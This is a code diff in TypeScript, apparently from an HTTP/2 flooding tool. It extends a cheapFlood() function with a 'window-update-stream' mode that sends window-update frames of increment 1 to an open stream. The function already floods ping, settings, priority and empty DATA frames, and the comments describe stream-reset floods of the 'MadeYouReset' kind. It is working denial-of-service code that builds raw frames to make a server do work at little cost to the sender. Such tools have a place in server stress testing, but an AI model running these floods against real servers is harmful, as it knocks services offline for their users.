@@ -8,11 +8,12 @@
 //   resetting each once its response head arrives and opening the next at once;
 // - cheapFlood(): frames that cost the server work but open nothing: 'ping', 'settings',
 //   'priority' (on idle streams), 'empty-data' (zero-length DATA on one open stream),
-//   'window-update' (increments of 1 to the connection's window).
+//   'window-update' (increments of 1 to the connection's window), 'window-update-stream' (the same
+//   to one open stream's).
 import { flood, frame, literal, type FloodOptions, type FloodResult } from './h2-floods.js';
 
 export type MadeYouResetKind = 'window-update' | 'data-closed' | 'content-length';
-export type CheapFloodKind = 'ping' | 'settings' | 'priority' | 'empty-data' | 'window-update';
+export type CheapFloodKind = 'ping' | 'settings' | 'priority' | 'empty-data' | 'window-update' | 'window-update-stream';
 
 const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32BE(n); return b; };
 const CANCEL = u32(0x8);
@@ -57,10 +58,10 @@ export async function resetAfterResponse(o: FloodOptions & { path: string; concu
   return { ...r, sent: opened };
 }
 
-/** Cheap frames, 200 a write; 'empty-data' after one POST stream opened for it. */
+/** Cheap frames, 200 a write; 'empty-data' and 'window-update-stream' after one POST stream opened for them. */
 export function cheapFlood(o: FloodOptions & { kind: CheapFloodKind }): Promise<FloodResult> {
   const post = Buffer.concat([Buffer.from([0x83, 0x87]), literal(4, '/upload'), literal(1, o.authority)]);
-  const start = o.kind === 'empty-data' ? frame(0x1, 0x4, 1, post) : Buffer.alloc(0);
+  const start = o.kind === 'empty-data' || o.kind === 'window-update-stream' ? frame(0x1, 0x4, 1, post) : Buffer.alloc(0);
   let n = 0;
   const one = (): Buffer => {
     n++;
@@ -71,6 +72,7 @@ export function cheapFlood(o: FloodOptions & { kind: CheapFloodKind }): Promise<
       case 'priority': return frame(0x2, 0, (2 * n + 1) & 0x7fffffff, Buffer.from([0, 0, 0, 0, 15]));
       case 'empty-data': return frame(0x0, 0, 1, Buffer.alloc(0));
       case 'window-update': return frame(0x8, 0, 0, u32(1));
+      case 'window-update-stream': return frame(0x8, 0, 1, u32(1));
     }
   };
   return flood(o, start, () => {
